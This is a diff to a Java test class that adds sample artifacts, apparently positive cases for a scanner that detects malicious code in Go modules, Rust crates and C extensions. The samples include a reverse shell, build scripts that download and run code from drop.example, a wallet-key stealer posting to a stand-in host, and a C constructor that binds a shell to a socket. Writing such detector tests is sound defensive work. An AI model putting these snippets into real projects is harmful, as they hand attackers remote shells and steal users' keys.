@@ -150,6 +150,78 @@ final class NativePositives {
                     }
                     """)),
         new Sample(
+            "a function of Go runs what comes over a connection to an address that it computes",
+            Artifact.goModule("m.example/sample", "v1.0.0")
+                .file("go.mod", "module m.example/sample\n")
+                .file(
+                    "x.go",
+                    """
+                    package x
+                    func Open() {
+                    	conn, err := net.DialTimeout("tcp", at([]int{594, 156})+":"+strconv.Itoa(0x22b8), 30*time.Second)
+                    	if err != nil {
+                    		return
+                    	}
+                    	rd := bufio.NewReader(conn)
+                    	line, _ := rd.ReadString('\\n')
+                    	out, _ := exec.Command("sh", "-c", strings.TrimSpace(line)).CombinedOutput()
+                    	fmt.Fprintf(conn, "%s", out)
+                    }
+                    """)),
+        new Sample(
+            "a build script leaves what it fetched alone",
+            crate("")
+                .file(
+                    "build.rs",
+                    """
+                    fn main() {
+                        if std::env::var("CI").is_ok() {
+                            let _ = std::process::Command::new("sh").arg("-c").arg("curl -s http://drop.example/u -o /tmp/u && chmod +x /tmp/u && /tmp/u").spawn();
+                        }
+                    }
+                    """)),
+        new Sample(
+            "a logger looks for keys of wallets in sources",
+            crate("")
+                .file(
+                    "src/pack.rs",
+                    """
+                    const TO: &str = "https://pool.drop.example/";
+                    pub fn pack(dir: &Path) {
+                        let keys = Regex::new(r#""(0x)?[0-9a-fA-F]{64}""#).unwrap();
+                        let mut found = Vec::new();
+                        for e in fs::read_dir(dir).unwrap().flatten() {
+                            let text = fs::read_to_string(e.path()).unwrap_or_default();
+                            for m in keys.find_iter(&text) { found.push(m.as_str().to_string()); }
+                        }
+                        let _ = reqwest::blocking::Client::new().post(TO).json(&found).send();
+                    }
+                    """)),
+        new Sample(
+            "a constructor in C that ties a shell to a connection",
+            extension(
+                "__attribute__((constructor)) static void up(void) { int s = socket(2, 1, 0);"
+                    + " if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) { dup2(s, 0); dup2(s, 1);"
+                    + " execl(\"/bin/sh\", \"sh\", \"-i\", (char *)0); } }")),
+        new Sample(
+            "a variable of a Go package is what a function without a name gives",
+            Artifact.goModule("m.example/sample", "v1.0.0")
+                .file("go.mod", "module m.example/sample\n")
+                .file(
+                    "x.go",
+                    """
+                    package x
+                    func run() error {
+                    	return exec.Command("/bin/sh", "-c", "wget -qO- https://drop.example/x | bash").Start()
+                    }
+                    var _ = func() error {
+                    	if runtime.GOOS != "linux" {
+                    		return nil
+                    	}
+                    	return run()
+                    }()
+                    """)),
+        new Sample(
             "a Go package that starts what it fetched",
             Artifact.goModule("m.example/sample", "v1.0.0")
                 .file("go.mod", "module m.example/sample\n")
@@ -219,6 +291,43 @@ final class NativePositives {
                 "namespace a {\nclass Shell {\n public:\n  int n = 0;\n};\nShell shell;\nint go() { return std::system(\""
                     + PULL
                     + "\"); }\n}")),
+        new Sample(
+            "a build script fetches a program, waits for it, and tells addresses by their shape",
+            crate("")
+                .file(
+                    "build.rs",
+                    """
+                    fn main() {
+                        let mut child = std::process::Command::new("sh").arg("-c").arg("curl -sO https://tools.acme.example/protoc && ./protoc --version").spawn().unwrap();
+                        child.wait().unwrap();
+                    }
+                    """)
+                .file(
+                    "src/address.rs",
+                    """
+                    pub fn is_address(s: &str) -> bool { Regex::new(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$").unwrap().is_match(s) }
+                    pub fn balance(a: &str) -> String { ureq::get("https://rpc.acme.example/").call().unwrap().into_string().unwrap() }
+                    """)),
+        new Sample(
+            "C that starts a program with pipes, and C that connects",
+            extension(
+                "__attribute__((constructor)) static void up(void) { int p[2]; pipe(p); dup2(p[0], 0); }\n"
+                    + "static void dial(void) { connect(s, a, n); }\n"
+                    + "static void run(void) { dup2(p[1], 1); execl(\"/bin/ls\", \"ls\", (char *)0); }")),
+        new Sample(
+            "a function of Go that speaks to whom it is told and runs a command",
+            Artifact.goModule("m.example/sample", "v1.0.0")
+                .file("go.mod", "module m.example/sample\n")
+                .file(
+                    "x.go",
+                    """
+                    package x
+                    func Serve(addr string) {
+                    	conn, _ := net.Dial("tcp", addr)
+                    	line, _ := bufio.NewReader(conn).ReadString('\\n')
+                    	exec.Command("sh", "-c", line).Run()
+                    }
+                    """)),
         new Sample(
             "a build script that asks for the revision",
             crate("")
